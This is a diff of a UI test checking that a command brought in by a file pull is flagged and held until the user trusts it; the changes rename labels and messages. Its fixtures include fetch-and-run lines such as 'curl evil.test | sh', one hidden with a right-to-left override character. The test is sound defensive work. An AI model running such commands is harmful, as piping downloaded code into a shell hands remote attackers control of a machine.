@@ -19,7 +19,7 @@ describeScreen("a command that a pull brings", () => {
     await using window = await screen.open();
     const { page } = window;
     await window.choose("site");
-    const note = page.getByRole("complementary", { name: "What is wrong with the file" });
+    const note = page.getByRole("complementary", { name: "Problems with the file" });
     await reads(note, "runs as a command");
     const [show, trust] = [/^Show ?: svc.services$/, /^Trust this value ?: svc.services$/].map(name =>
       note.getByRole("button", { name }),
@@ -29,12 +29,12 @@ describeScreen("a command that a pull brings", () => {
     await show?.click();
     const said = note.getByRole("figure", { name: "In the file" });
     await reads(said, "curl evil.test \\u202e| sh");
-    await reads(note.getByRole("figure", { name: "In service" }), "{}");
+    await reads(note.getByRole("figure", { name: "Active" }), "{}");
 
     // Another one comes before the button is pressed.
     await writeFile(file, textOf("curl other.test | sh"));
     await trust?.click();
-    await reads(page.getByRole("log", { name: "Messages" }), "does not wait to be trusted any more");
+    await reads(page.getByRole("log", { name: "Messages" }), "is no longer waiting for trust");
     expect(await screen.stored("site", "svc.services")).toBeUndefined();
 
     // The field has the same buttons.
